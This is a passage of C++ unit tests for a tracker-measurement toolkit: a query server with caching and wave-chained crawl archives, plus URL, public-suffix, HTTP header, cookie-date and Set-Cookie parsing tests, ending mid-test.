TEST(ZipfSamplerTest, ProbabilitiesSumToOneAndDecrease) {
  const ZipfSampler sampler(100, 0.99);
  double sum = 0;
  for (int k = 0; k < 100; ++k) sum += sampler.probability(k);
  EXPECT_NEAR(sum, 1.0, 1e-9);
  for (int k = 1; k < 100; ++k) {
    EXPECT_LT(sampler.probability(k), sampler.probability(k - 1));
  }
  EXPECT_EQ(sampler.probability(-1), 0.0);
  EXPECT_EQ(sampler.probability(100), 0.0);
}

TEST(ZipfSamplerTest, EmpiricalHeadMatchesTheory) {
  const ZipfSampler sampler(1000, 0.99);
  script::Rng rng(42);
  std::vector<int> counts(1000, 0);
  constexpr int kDraws = 200000;
  for (int i = 0; i < kDraws; ++i) ++counts[sampler.sample(rng)];
  // Head ranks get enough mass for a tight relative check.
  for (int k = 0; k < 5; ++k) {
    const double expected = sampler.probability(k) * kDraws;
    EXPECT_NEAR(counts[k], expected, 0.08 * expected) << "rank " << k;
  }
  // Monotone-ish head: rank 0 strictly dominates rank 10 and rank 100.
  EXPECT_GT(counts[0], counts[10]);
  EXPECT_GT(counts[10], counts[100]);
}

TEST(WorkloadTest, SameSeedSameStream) {
  WorkloadSpec spec;
  spec.site_count = 500;
  WorkloadGenerator a(spec);
  WorkloadGenerator b(spec);
  const auto qa = a.generate(2000);
  const auto qb = b.generate(2000);
  ASSERT_EQ(qa.size(), qb.size());
  for (std::size_t i = 0; i < qa.size(); ++i) {
    EXPECT_EQ(to_text(qa[i]), to_text(qb[i])) << "query " << i;
  }
}

TEST(WorkloadTest, GenerateIsPureAndRanksInBounds) {
  WorkloadSpec spec;
  spec.site_count = 50;
  WorkloadGenerator gen(spec);
  const auto first = gen.generate(500);
  const auto second = gen.generate(500);  // restarts from the seed
  for (std::size_t i = 0; i < first.size(); ++i) {
    EXPECT_EQ(to_text(first[i]), to_text(second[i]));
  }
  int sites = 0;
  for (const Query& q : first) {
    if (q.kind == QueryKind::kSite) {
      ++sites;
      EXPECT_GE(q.rank, 1);
      EXPECT_LE(q.rank, 50);
    }
  }
  // weight_site = 90/100 by default; the stream must be site-dominated.
  EXPECT_GT(sites, 350);
}

TEST(WorkloadTest, DifferentSeedsDiverge) {
  WorkloadSpec a;
  a.site_count = 500;
  WorkloadSpec b = a;
  b.seed = a.seed + 1;
  const auto qa = WorkloadGenerator(a).generate(200);
  const auto qb = WorkloadGenerator(b).generate(200);
  int differing = 0;
  for (std::size_t i = 0; i < qa.size(); ++i) {
    if (to_text(qa[i]) != to_text(qb[i])) ++differing;
  }
  EXPECT_GT(differing, 0);
}

// ---- query protocol -------------------------------------------------------

TEST(QueryParseTest, RoundTripsEveryKind) {
  const char* lines[] = {"site 17",       "table1",       "totals",
                         "top-exfiltrated 5", "top-domains 3", "entity Google",
                         "stats"};
  for (const char* line : lines) {
    const auto q = parse_query(line);
    ASSERT_TRUE(q.has_value()) << line;
    EXPECT_EQ(to_text(*q), line);
    // to_text must parse back to the same query.
    const auto again = parse_query(to_text(*q));
    ASSERT_TRUE(again.has_value());
    EXPECT_EQ(to_text(*again), line);
  }
}

TEST(QueryParseTest, WavesQueriesRoundTrip) {
  const auto bare = parse_query("waves");
  ASSERT_TRUE(bare.has_value());
  EXPECT_EQ(bare->kind, QueryKind::kWaves);
  EXPECT_TRUE(bare->domain.empty());
  EXPECT_EQ(to_text(*bare), "waves");

  const auto filtered = parse_query("waves tracker.net");
  ASSERT_TRUE(filtered.has_value());
  EXPECT_EQ(filtered->kind, QueryKind::kWaves);
  EXPECT_EQ(filtered->domain, "tracker.net");
  EXPECT_EQ(to_text(*filtered), "waves tracker.net");

  EXPECT_FALSE(parse_query("waves a b").has_value());
}

TEST(QueryParseTest, DefaultsAndRejects) {
  EXPECT_EQ(parse_query("top-exfiltrated")->top_n, 10);
  EXPECT_EQ(parse_query("top-domains")->top_n, 10);
  EXPECT_FALSE(parse_query("").has_value());
  EXPECT_FALSE(parse_query("site").has_value());
  EXPECT_FALSE(parse_query("site x").has_value());
  EXPECT_FALSE(parse_query("site 17 trailing").has_value());
  EXPECT_FALSE(parse_query("table1 extra").has_value());
  EXPECT_FALSE(parse_query("entity").has_value());
  EXPECT_FALSE(parse_query("unknown 1").has_value());
}

// ---- cache ----------------------------------------------------------------

std::shared_ptr<const instrument::VisitLog> log_for(int rank) {
  instrument::VisitLog log;
  log.rank = rank;
  log.site = "site" + std::to_string(rank) + ".com";
  return std::make_shared<const instrument::VisitLog>(std::move(log));
}

TEST(BlockCacheTest, HitMissAndCounters) {
  CacheConfig config;
  config.max_entries = 4;
  config.shards = 1;
  BlockCache cache(config);
  EXPECT_EQ(cache.get(0, 1), nullptr);
  cache.put(0, 1, 100, log_for(1));
  const auto hit = cache.get(0, 1);
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->rank, 1);
  const auto stats = cache.stats();
  EXPECT_EQ(stats.hits, 1);
  EXPECT_EQ(stats.misses, 1);
  EXPECT_EQ(stats.insertions, 1);
  EXPECT_EQ(stats.entries, 1);
}

TEST(BlockCacheTest, ArchiveIndexIsPartOfTheKey) {
  CacheConfig config;
  config.shards = 1;
  BlockCache cache(config);
  cache.put(0, 1, 100, log_for(1));
  EXPECT_EQ(cache.get(1, 1), nullptr);  // same rank, other archive
  EXPECT_NE(cache.get(0, 1), nullptr);
}

TEST(BlockCacheTest, EvictsLeastRecentlyUsed) {
  CacheConfig config;
  config.max_entries = 2;
  config.shards = 1;
  BlockCache cache(config);
  cache.put(0, 1, 100, log_for(1));
  cache.put(0, 2, 100, log_for(2));
  ASSERT_NE(cache.get(0, 1), nullptr);  // refresh 1; 2 becomes LRU
  cache.put(0, 3, 100, log_for(3));     // evicts 2
  EXPECT_EQ(cache.get(0, 2), nullptr);
  EXPECT_NE(cache.get(0, 1), nullptr);
  EXPECT_NE(cache.get(0, 3), nullptr);
  EXPECT_EQ(cache.stats().evictions, 1);
  EXPECT_EQ(cache.stats().entries, 2);
}

TEST(BlockCacheTest, AdmissionRejectsOversizedBlocks) {
  CacheConfig config;
  config.max_block_bytes = 1000;
  config.shards = 1;
  BlockCache cache(config);
  cache.put(0, 1, 1001, log_for(1));  // over the bound: never admitted
  EXPECT_EQ(cache.get(0, 1), nullptr);
  cache.put(0, 2, 1000, log_for(2));  // at the bound: admitted
  EXPECT_NE(cache.get(0, 2), nullptr);
  const auto stats = cache.stats();
  EXPECT_EQ(stats.rejected_admission, 1);
  EXPECT_EQ(stats.insertions, 1);
}

TEST(BlockCacheTest, DuplicatePutKeepsIncumbent) {
  CacheConfig config;
  config.shards = 1;
  BlockCache cache(config);
  const auto first = log_for(1);
  cache.put(0, 1, 100, first);
  cache.put(0, 1, 100, log_for(1));  // concurrent decode of the same block
  EXPECT_EQ(cache.get(0, 1).get(), first.get());
  EXPECT_EQ(cache.stats().insertions, 1);
}

TEST(BlockCacheTest, ZeroCapacityDisablesCaching) {
  CacheConfig config;
  config.max_entries = 0;
  BlockCache cache(config);
  cache.put(0, 1, 100, log_for(1));
  EXPECT_EQ(cache.get(0, 1), nullptr);
  EXPECT_EQ(cache.stats().entries, 0);
}

// ---- server ---------------------------------------------------------------

corpus::CorpusParams small_params(int sites) {
  corpus::CorpusParams params;
  params.site_count = sites;
  return params;
}

/// Crawls `sites` sites and packs them into an in-memory CGAR image.
std::string packed_archive(const corpus::Corpus& corpus) {
  crawler::Crawler crawler(corpus);
  crawler::CrawlOptions options;
  store::WriterOptions writer_options;
  writer_options.corpus_seed = corpus.params().seed;
  const fault::FaultPlan plan = crawler.plan_for(options);
  writer_options.fault_seed = plan.enabled() ? plan.params().seed : 0;
  std::ostringstream sink;
  store::Writer writer(&sink, writer_options);
  crawler.crawl(corpus.size(), options,
                [&](instrument::VisitLog&& log) { writer.add(log); });
  EXPECT_TRUE(writer.finish());
  return sink.str();
}

std::unique_ptr<Server> server_over(const std::string& archive,
                                    ServerConfig config = {}) {
  store::Error error;
  auto reader = store::Reader::from_buffer(archive, &error);
  EXPECT_TRUE(reader.has_value()) << error.to_string();
  std::vector<store::Reader> readers;
  readers.push_back(std::move(*reader));
  auto server = Server::from_readers(std::move(readers), config, &error);
  EXPECT_NE(server, nullptr) << error.to_string();
  return server;
}

TEST(ServerTest, AggregateMatchesBatchAnalyzer) {
  corpus::Corpus corpus(small_params(60));
  const std::string archive = packed_archive(corpus);
  const auto server = server_over(archive);

  store::Error error;
  auto reader = store::Reader::from_buffer(archive, &error);
  ASSERT_TRUE(reader.has_value());
  analysis::Analyzer batch(corpus.entities());
  ASSERT_TRUE(analysis::analyze_archive(*reader, batch, &error));

  analysis::Analyzer from_serve(corpus.entities());
  from_serve.apply(analysis::SiteSummary(server->aggregate()));
  EXPECT_EQ(report::summary_to_json(batch, 10).dump(),
            report::summary_to_json(from_serve, 10).dump());
}

TEST(ServerTest, SiteAnswersAreStableAndCacheIsTransparent) {
  corpus::Corpus corpus(small_params(40));
  const auto server = server_over(packed_archive(corpus));

  ServerConfig no_cache;
  no_cache.cache.max_entries = 0;
  const auto uncached = server_over(packed_archive(corpus), no_cache);

  for (int rank = 1; rank <= 40; ++rank) {
    Query q;
    q.kind = QueryKind::kSite;
    q.rank = rank;
    const std::string cold = server->handle_text(q);
    const std::string warm = server->handle_text(q);  // second read: hit
    EXPECT_EQ(cold, warm) << "rank " << rank;
    EXPECT_EQ(cold, uncached->handle_text(q)) << "rank " << rank;
  }
  const auto stats = server->cache().stats();
  EXPECT_EQ(stats.misses, 40);
  EXPECT_EQ(stats.hits, 40);
  EXPECT_EQ(uncached->cache().stats().insertions, 0);
}

TEST(ServerTest, UnknownRankIsAnErrorAnswerNotACrash) {
  corpus::Corpus corpus(small_params(10));
  const auto server = server_over(packed_archive(corpus));
  Query q;
  q.kind = QueryKind::kSite;
  q.rank = 9999;
  const auto answer = server->handle(q);
  ASSERT_NE(answer.find("error"), nullptr);
  const auto stats = server->stats_json();
  EXPECT_EQ(stats.find("queries")->find("errors")->as_int(), 1);
}

TEST(ServerTest, EntityQueriesDistinguishKnownFromUnknown) {
  corpus::Corpus corpus(small_params(60));
  const auto server = server_over(packed_archive(corpus));
  Query q;
  q.kind = QueryKind::kEntity;
  q.entity = "Google";
  EXPECT_TRUE(server->handle(q).find("known")->as_bool());
  q.entity = "NoSuchEntity";
  const auto answer = server->handle(q);
  EXPECT_FALSE(answer.find("known")->as_bool());
  EXPECT_EQ(answer.find("exfiltrated_pairs")->as_int(), 0);
}

TEST(ServerTest, ConcurrentReadersMatchSequentialAnswers) {
  corpus::Corpus corpus(small_params(50));
  ServerConfig config;
  config.cache.max_entries = 16;  // small: force concurrent evictions
  config.cache.shards = 4;
  const auto server = server_over(packed_archive(corpus), config);

  WorkloadSpec spec;
  spec.site_count = 50;
  const auto queries = WorkloadGenerator(spec).generate(600);

  std::vector<std::string> sequential(queries.size());
  for (std::size_t i = 0; i < queries.size(); ++i) {
    if (queries[i].kind == QueryKind::kStats) continue;
    sequential[i] = server->handle_text(queries[i]);
  }

  constexpr int kThreads = 8;
  std::vector<std::string> concurrent(queries.size());
  std::vector<std::thread> workers;
  for (int t = 0; t < kThreads; ++t) {
    workers.emplace_back([&, t] {
      for (std::size_t i = static_cast<std::size_t>(t); i < queries.size();
           i += kThreads) {
        if (queries[i].kind == QueryKind::kStats) continue;
        concurrent[i] = server->handle_text(queries[i]);
      }
    });
  }
  for (auto& worker : workers) worker.join();
  for (std::size_t i = 0; i < queries.size(); ++i) {
    EXPECT_EQ(sequential[i], concurrent[i]) << "query " << i;
  }
}

TEST(ServerTest, TwoArchivesMergeInLoadOrder) {
  // One corpus crawled once, packed whole vs. re-served; the aggregate over
  // the single archive must match table1 over the same archive listed twice
  // only in the lookups-first-wins sense: ranks resolve identically.
  corpus::Corpus corpus(small_params(20));
  const std::string archive = packed_archive(corpus);
  store::Error error;
  auto r1 = store::Reader::from_buffer(archive, &error);
  auto r2 = store::Reader::from_buffer(archive, &error);
  ASSERT_TRUE(r1.has_value() && r2.has_value());
  std::vector<store::Reader> readers;
  readers.push_back(std::move(*r1));
  readers.push_back(std::move(*r2));
  auto server = Server::from_readers(std::move(readers), {}, &error);
  ASSERT_NE(server, nullptr);
  EXPECT_EQ(server->archive_count(), 2);

  // Per-site answers must come from the first archive (identical content
  // here, so they must equal the single-archive answer apart from nothing).
  const auto single = server_over(archive);
  Query q;
  q.kind = QueryKind::kSite;
  q.rank = 3;
  EXPECT_EQ(server->handle_text(q), single->handle_text(q));
}

// ---- wave chains ----------------------------------------------------------

/// Crawls `corpus` keeping the logs, so a second wave can be derived by
/// mutating them (serve_test builds its chain from store primitives — the
/// evolution engine itself is covered in evolve_test).
std::vector<instrument::VisitLog> crawl_logs(const corpus::Corpus& corpus) {
  crawler::Crawler crawler(corpus);
  std::vector<instrument::VisitLog> logs;
  crawler.crawl(corpus.size(), crawler::CrawlOptions{},
                [&](instrument::VisitLog&& log) {
                  logs.push_back(std::move(log));
                });
  return logs;
}

store::WriterOptions wave0_options(const corpus::Corpus& corpus) {
  crawler::Crawler crawler(corpus);
  store::WriterOptions options;
  options.corpus_seed = corpus.params().seed;
  const fault::FaultPlan plan = crawler.plan_for(crawler::CrawlOptions{});
  options.fault_seed = plan.enabled() ? plan.params().seed : 0;
  return options;
}

TEST(ServerTest, WaveChainServesTrendsAndNewestAggregate) {
  corpus::Corpus corpus(small_params(20));
  const auto logs = crawl_logs(corpus);
  ASSERT_EQ(logs.size(), 20u);

  // Wave 0: a full archive of the crawl.
  const store::WriterOptions base_options = wave0_options(corpus);
  std::ostringstream w0_sink;
  {
    store::Writer writer(&w0_sink, base_options);
    for (const auto& log : logs) writer.add(log);
    ASSERT_TRUE(writer.finish());
  }
  store::Error error;
  auto base = store::Reader::from_buffer(w0_sink.str(), &error);
  ASSERT_TRUE(base.has_value()) << error.to_string();

  // Wave 1: one site's requests disappear; everything else inherits.
  auto wave1 = logs;
  wave1[1].requests.clear();
  store::WriterOptions delta_options = base_options;
  delta_options.kind = store::ArchiveKind::kDelta;
  delta_options.wave = 1;
  delta_options.base.corpus_seed = base->corpus_seed();
  delta_options.base.fault_seed = base->fault_seed();
  delta_options.base.evolution_seed = base->evolution_seed();
  delta_options.base.policy = base->policy();
  delta_options.base.wave = base->wave();
  delta_options.base.site_count =
      static_cast<std::uint32_t>(base->total_site_count());
  delta_options.base.footer_crc = base->footer_crc();
  std::ostringstream w1_sink;
  {
    store::Writer writer(&w1_sink, delta_options);
    for (const auto& log : wave1) {
      auto block = store::encode_wave_block(*base, log, &error);
      ASSERT_TRUE(block.has_value()) << error.to_string();
      if (block->kind == store::WaveBlock::Kind::kInherited) {
        ASSERT_TRUE(writer.add_inherited(log.rank));
      } else {
        ASSERT_TRUE(writer.append_delta_block(log.rank,
                                              std::move(block->block)));
      }
    }
    ASSERT_TRUE(writer.finish());
  }

  // A delta among the loaded archives switches the server to chain mode.
  auto delta = store::Reader::from_buffer(w1_sink.str(), &error);
  ASSERT_TRUE(delta.has_value()) << error.to_string();
  std::vector<store::Reader> readers;
  readers.push_back(std::move(*base));
  readers.push_back(std::move(*delta));
  const auto server = Server::from_readers(std::move(readers), {}, &error);
  ASSERT_NE(server, nullptr) << error.to_string();
  EXPECT_EQ(server->archive_count(), 2);
  EXPECT_EQ(server->site_count(), 20);

  // The trend table has one row per wave, in wave order.
  Query waves_query;
  waves_query.kind = QueryKind::kWaves;
  const auto trend = server->handle(waves_query);
  EXPECT_EQ(trend.find("waves")->as_int(), 2);
  const report::Json* rows = trend.find("rows");
  ASSERT_NE(rows, nullptr);
  ASSERT_EQ(rows->size(), 2u);
  EXPECT_EQ(rows->at(0).find("wave")->as_int(), 0);
  EXPECT_EQ(rows->at(1).find("wave")->as_int(), 1);

  // Per-domain trends answer for every wave too, known or not.
  waves_query.domain = "no-such-domain.example";
  const auto filtered = server->handle(waves_query);
  ASSERT_EQ(filtered.find("rows")->size(), 2u);
  EXPECT_FALSE(filtered.find("rows")->at(0).find("known")->as_bool(true));

  // The aggregate serves the NEWEST wave: identical to a server over an
  // independently packed full archive of the wave-1 logs, and per-site
  // queries materialize rank 2 through the chain.
  store::WriterOptions full1_options = base_options;
  full1_options.wave = 1;
  std::ostringstream full1_sink;
  {
    store::Writer writer(&full1_sink, full1_options);
    for (const auto& log : wave1) writer.add(log);
    ASSERT_TRUE(writer.finish());
  }
  const auto reference = server_over(full1_sink.str());
  for (const auto kind : {QueryKind::kTable1, QueryKind::kTotals}) {
    Query q;
    q.kind = kind;
    EXPECT_EQ(server->handle_text(q), reference->handle_text(q));
  }
  Query site_query;
  site_query.kind = QueryKind::kSite;
  site_query.rank = 2;
  // Only the serving-archive index may differ from the reference answer:
  // the chain serves rank 2 from the delta (archive 1), the full pack from
  // its single archive (archive 0). Records and fold must be identical.
  const auto chain_site = server->handle(site_query);
  const auto full_site = reference->handle(site_query);
  EXPECT_EQ(chain_site.find("archive")->as_int(), 1);
  EXPECT_EQ(chain_site.find("records")->dump(),
            full_site.find("records")->dump());
  EXPECT_EQ(chain_site.find("analysis")->dump(),
            full_site.find("analysis")->dump());
  EXPECT_EQ(chain_site.find("records")->find("requests")->as_int(), 0);
}

TEST(ServerTest, WavesQueryWithoutAChainIsAnErrorAnswer) {
  corpus::Corpus corpus(small_params(10));
  const auto server = server_over(packed_archive(corpus));
  Query q;
  q.kind = QueryKind::kWaves;
  const auto answer = server->handle(q);
  ASSERT_NE(answer.find("error"), nullptr);
}

TEST(ServerTest, RejectsCorruptArchive) {
  corpus::Corpus corpus(small_params(10));
  std::string archive = packed_archive(corpus);
  archive[archive.size() / 2] ^= 0x40;  // flip a bit mid-blocks
  store::Error error;
  auto reader = store::Reader::from_buffer(archive, &error);
  if (!reader.has_value()) return;  // envelope already caught it
  std::vector<store::Reader> readers;
  readers.push_back(std::move(*reader));
  EXPECT_EQ(Server::from_readers(std::move(readers), {}, &error), nullptr);
  EXPECT_FALSE(error.ok());
}

}  // namespace
}  // namespace cg::serve
