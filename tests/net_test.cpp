// Unit tests for the net substrate: URL parsing, PSL/eTLD+1, percent and
// query codecs, HTTP headers, cookie-date parsing, Set-Cookie parsing.
#include <gtest/gtest.h>

#include "net/http.h"
#include "net/http_date.h"
#include "net/percent.h"
#include "net/psl.h"
#include "net/query.h"
#include "net/set_cookie.h"
#include "net/url.h"

namespace cg::net {
namespace {

// ---------------------------------------------------------------- Url ----

TEST(UrlTest, ParsesBasicHttpsUrl) {
  const auto url = Url::parse("https://www.example.com/path/page?x=1#frag");
  ASSERT_TRUE(url.has_value());
  EXPECT_EQ(url->scheme(), "https");
  EXPECT_EQ(url->host(), "www.example.com");
  EXPECT_EQ(url->port(), 443);
  EXPECT_EQ(url->path(), "/path/page");
  EXPECT_EQ(url->query(), "x=1");
  EXPECT_EQ(url->fragment(), "frag");
}

TEST(UrlTest, DefaultPortsPerScheme) {
  EXPECT_EQ(Url::must_parse("http://a.com/").port(), 80);
  EXPECT_EQ(Url::must_parse("https://a.com/").port(), 443);
  EXPECT_EQ(Url::must_parse("https://a.com:8443/").port(), 8443);
}

TEST(UrlTest, HostIsLowercased) {
  EXPECT_EQ(Url::must_parse("https://WWW.Example.COM/").host(),
            "www.example.com");
}

TEST(UrlTest, EmptyPathBecomesSlash) {
  EXPECT_EQ(Url::must_parse("https://example.com").path(), "/");
}

TEST(UrlTest, RejectsGarbage) {
  EXPECT_FALSE(Url::parse("not a url").has_value());
  EXPECT_FALSE(Url::parse("https://").has_value());
  EXPECT_FALSE(Url::parse("://host").has_value());
  EXPECT_FALSE(Url::parse("https://host:notaport/").has_value());
  EXPECT_FALSE(Url::parse("https://host:70000/").has_value());
}

TEST(UrlTest, OriginOmitsDefaultPort) {
  EXPECT_EQ(Url::must_parse("https://a.com/x").origin(), "https://a.com");
  EXPECT_EQ(Url::must_parse("https://a.com:444/x").origin(),
            "https://a.com:444");
}

TEST(UrlTest, SiteIsEtldPlusOne) {
  EXPECT_EQ(Url::must_parse("https://cdn.shopifycloud.com/x.js").site(),
            "shopifycloud.com");
  EXPECT_EQ(Url::must_parse("https://a.b.example.co.uk/").site(),
            "example.co.uk");
}

TEST(UrlTest, SpecRoundTrips) {
  const std::string spec = "https://sub.example.com:8443/a/b?k=v#top";
  EXPECT_EQ(Url::must_parse(spec).spec(), spec);
}

TEST(UrlTest, ResolveAbsolutePath) {
  const auto base = Url::must_parse("https://example.com/dir/page?a=1");
  EXPECT_EQ(base.resolve("/other?b=2").spec(),
            "https://example.com/other?b=2");
}

TEST(UrlTest, ResolveRelativePath) {
  const auto base = Url::must_parse("https://example.com/dir/page");
  EXPECT_EQ(base.resolve("next").spec(), "https://example.com/dir/next");
}

TEST(UrlTest, ResolveAbsoluteUrlReplacesEverything) {
  const auto base = Url::must_parse("https://example.com/dir/");
  EXPECT_EQ(base.resolve("https://other.org/x").spec(),
            "https://other.org/x");
}

TEST(UrlTest, ResolveQueryOnly) {
  const auto base = Url::must_parse("https://example.com/p?old=1");
  EXPECT_EQ(base.resolve("?new=2").spec(), "https://example.com/p?new=2");
}

TEST(UrlTest, DefaultCookiePath) {
  EXPECT_EQ(Url::must_parse("https://a.com/").default_cookie_path(), "/");
  EXPECT_EQ(Url::must_parse("https://a.com/x").default_cookie_path(), "/");
  EXPECT_EQ(Url::must_parse("https://a.com/dir/page").default_cookie_path(),
            "/dir");
}

TEST(UrlTest, StripsUserinfo) {
  EXPECT_EQ(Url::must_parse("https://user:pw@example.com/").host(),
            "example.com");
}

TEST(UrlTest, SameSiteComparesRegistrableDomains) {
  const auto a = Url::must_parse("https://www.facebook.com/");
  const auto b = Url::must_parse("https://static.facebook.com/");
  const auto c = Url::must_parse("https://fbcdn.net/");
  EXPECT_TRUE(same_site(a, b));
  // The paper's facebook.com/fbcdn.net breakage case: different sites.
  EXPECT_FALSE(same_site(a, c));
}

// ---------------------------------------------------------------- PSL ----

TEST(PslTest, SimpleTlds) {
  EXPECT_EQ(etld_plus_one("www.example.com"), "example.com");
  EXPECT_EQ(etld_plus_one("example.com"), "example.com");
  EXPECT_EQ(etld_plus_one("a.b.c.example.org"), "example.org");
}

TEST(PslTest, MultiLabelSuffixes) {
  EXPECT_EQ(etld_plus_one("www.example.co.uk"), "example.co.uk");
  EXPECT_EQ(etld_plus_one("shop.example.com.au"), "example.com.au");
}

TEST(PslTest, PrivateSectionSuffixes) {
  EXPECT_EQ(etld_plus_one("user.github.io"), "user.github.io");
  EXPECT_EQ(etld_plus_one("store.myshopify.com"), "store.myshopify.com");
}

TEST(PslTest, BareSuffixHasNoRegistrableDomain) {
  EXPECT_EQ(etld_plus_one("com"), "");
  EXPECT_EQ(etld_plus_one("co.uk"), "");
}

TEST(PslTest, UnknownTldFallsBackToLastLabel) {
  EXPECT_EQ(etld_plus_one("www.example.zz"), "example.zz");
}

TEST(PslTest, IpLiteralsAreTheirOwnSite) {
  EXPECT_EQ(etld_plus_one("127.0.0.1"), "127.0.0.1");
}

TEST(PslTest, CaseAndTrailingDotNormalised) {
  EXPECT_EQ(etld_plus_one("WWW.Example.COM."), "example.com");
}

TEST(PslTest, IsPublicSuffix) {
  EXPECT_TRUE(is_public_suffix("com"));
  EXPECT_TRUE(is_public_suffix("co.uk"));
  EXPECT_TRUE(is_public_suffix("github.io"));
  EXPECT_FALSE(is_public_suffix("example.com"));
}

TEST(PslTest, DomainMatches) {
  EXPECT_TRUE(domain_matches("www.example.com", "example.com"));
  EXPECT_TRUE(domain_matches("example.com", "example.com"));
  EXPECT_TRUE(domain_matches("a.example.com", ".example.com"));
  EXPECT_FALSE(domain_matches("badexample.com", "example.com"));
  EXPECT_FALSE(domain_matches("example.com", "www.example.com"));
}

TEST(PslTest, SameSiteHosts) {
  EXPECT_TRUE(same_site("www.zoom.us", "zoom.us"));
  EXPECT_FALSE(same_site("microsoft.com", "live.com"));
  EXPECT_FALSE(same_site("com", "com"));  // bare suffixes never same-site
}

// ------------------------------------------------------------ percent ----

TEST(PercentTest, EncodeUnreservedPassThrough) {
  EXPECT_EQ(percent_encode("AZaz09-._~"), "AZaz09-._~");
}

TEST(PercentTest, EncodeReservedAndSpace) {
  EXPECT_EQ(percent_encode("a b&c=d"), "a%20b%26c%3Dd");
}

TEST(PercentTest, DecodeRoundTrip) {
  const std::string original = "GA1.1.444332364.1746838827&x=%zz";
  EXPECT_EQ(percent_decode(percent_encode(original)), original);
}

TEST(PercentTest, MalformedEscapesPassThrough) {
  EXPECT_EQ(percent_decode("%zz%4"), "%zz%4");
}

TEST(PercentTest, FormDecodePlusAsSpace) {
  EXPECT_EQ(form_decode("a+b%2Bc"), "a b+c");
}

// -------------------------------------------------------------- query ----

TEST(QueryTest, ParsesPairs) {
  const auto params = parse_query("a=1&b=two&c=");
  ASSERT_EQ(params.size(), 3u);
  EXPECT_EQ(params[0], (QueryParam{"a", "1"}));
  EXPECT_EQ(params[1], (QueryParam{"b", "two"}));
  EXPECT_EQ(params[2], (QueryParam{"c", ""}));
}

TEST(QueryTest, KeyWithoutEquals) {
  const auto params = parse_query("flag&k=v");
  ASSERT_EQ(params.size(), 2u);
  EXPECT_EQ(params[0], (QueryParam{"flag", ""}));
}

TEST(QueryTest, SkipsEmptySegments) {
  EXPECT_EQ(parse_query("&&a=1&&").size(), 1u);
  EXPECT_TRUE(parse_query("").empty());
}

TEST(QueryTest, DecodesValues) {
  const auto params = parse_query("name=John%20Doe&sym=%26");
  EXPECT_EQ(query_value(params, "name"), "John Doe");
  EXPECT_EQ(query_value(params, "sym"), "&");
}

TEST(QueryTest, BuildRoundTrips) {
  const std::vector<QueryParam> params = {{"fbp", "fb.1.123.456"},
                                          {"u r l", "a&b"}};
  const auto rebuilt = parse_query(build_query(params));
  EXPECT_EQ(rebuilt, params);
}

// ------------------------------------------------------------ headers ----

TEST(HttpHeadersTest, CaseInsensitiveGet) {
  HttpHeaders h;
  h.add("Content-Type", "text/html");
  EXPECT_EQ(h.get("content-type"), "text/html");
  EXPECT_EQ(h.get("CONTENT-TYPE"), "text/html");
  EXPECT_FALSE(h.get("content-length").has_value());
}

TEST(HttpHeadersTest, SetCookieMayRepeat) {
  HttpHeaders h;
  h.add("Set-Cookie", "a=1");
  h.add("Set-Cookie", "b=2; HttpOnly");
  const auto all = h.get_all("set-cookie");
  ASSERT_EQ(all.size(), 2u);
  EXPECT_EQ(all[0], "a=1");
  EXPECT_EQ(all[1], "b=2; HttpOnly");
}

TEST(HttpHeadersTest, SetReplacesAll) {
  HttpHeaders h;
  h.add("X", "1");
  h.add("X", "2");
  h.set("x", "3");
  EXPECT_EQ(h.get_all("X").size(), 1u);
  EXPECT_EQ(h.get("X"), "3");
}

TEST(HttpHeadersTest, Remove) {
  HttpHeaders h;
  h.add("A", "1");
  h.add("B", "2");
  h.remove("a");
  EXPECT_FALSE(h.has("A"));
  EXPECT_TRUE(h.has("B"));
}

// --------------------------------------------------------------- date ----

TEST(HttpDateTest, ParsesRfc1123) {
  const auto t = parse_cookie_date("Wed, 09 Jun 2021 10:18:14 GMT");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(*t, 1623233894000LL);
}

TEST(HttpDateTest, ParsesEpoch) {
  const auto t = parse_cookie_date("Thu, 01 Jan 1970 00:00:00 GMT");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(*t, 0);
}

TEST(HttpDateTest, ParsesLegacyTwoDigitYear) {
  // RFC 6265 tolerant format; 94 -> 1994.
  const auto t = parse_cookie_date("Sunday, 06-Nov-94 08:49:37 GMT");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(*t, 784111777000LL);
}

TEST(HttpDateTest, TwoDigitYearBelow70IsTwoThousands) {
  const auto t = parse_cookie_date("01 Jan 30 00:00:00");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(format_http_date(*t), "Tue, 01 Jan 2030 00:00:00 GMT");
}

TEST(HttpDateTest, RejectsDatesWithoutAllFields) {
  EXPECT_FALSE(parse_cookie_date("Wed, 09 Jun 2021").has_value());
  EXPECT_FALSE(parse_cookie_date("garbage").has_value());
  EXPECT_FALSE(parse_cookie_date("").has_value());
}

TEST(HttpDateTest, RejectsOutOfRangeTime) {
  EXPECT_FALSE(parse_cookie_date("09 Jun 2021 25:00:00").has_value());
}

TEST(HttpDateTest, FormatRoundTrips) {
  const TimeMillis t = 1746838846000LL;  // from the paper's LinkedIn case
  const auto parsed = parse_cookie_date(format_http_date(t));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, t);
}

TEST(HttpDateTest, FormatKnownDate) {
  EXPECT_EQ(format_http_date(784111777000LL),
            "Sun, 06 Nov 1994 08:49:37 GMT");
}

// ---------------------------------------------------------- SetCookie ----

TEST(SetCookieTest, SimplePair) {
  const auto c = parse_set_cookie("_ga=GA1.1.444332364.1746838827");
  ASSERT_TRUE(c.has_value());
  EXPECT_EQ(c->name, "_ga");
  EXPECT_EQ(c->value, "GA1.1.444332364.1746838827");
  EXPECT_FALSE(c->secure);
  EXPECT_FALSE(c->http_only);
}

TEST(SetCookieTest, AllAttributes) {
  const auto c = parse_set_cookie(
      "sid=abc123; Domain=.example.com; Path=/app; "
      "Expires=Wed, 09 Jun 2021 10:18:14 GMT; Secure; HttpOnly; "
      "SameSite=Lax");
  ASSERT_TRUE(c.has_value());
  EXPECT_EQ(c->name, "sid");
  EXPECT_EQ(c->domain, "example.com");  // leading dot stripped
  EXPECT_EQ(c->path, "/app");
  ASSERT_TRUE(c->expires.has_value());
  EXPECT_TRUE(c->secure);
  EXPECT_TRUE(c->http_only);
  EXPECT_EQ(c->same_site, SameSite::kLax);
}

TEST(SetCookieTest, MaxAge) {
  const auto c = parse_set_cookie("k=v; Max-Age=3600");
  ASSERT_TRUE(c.has_value());
  ASSERT_TRUE(c->max_age_ms.has_value());
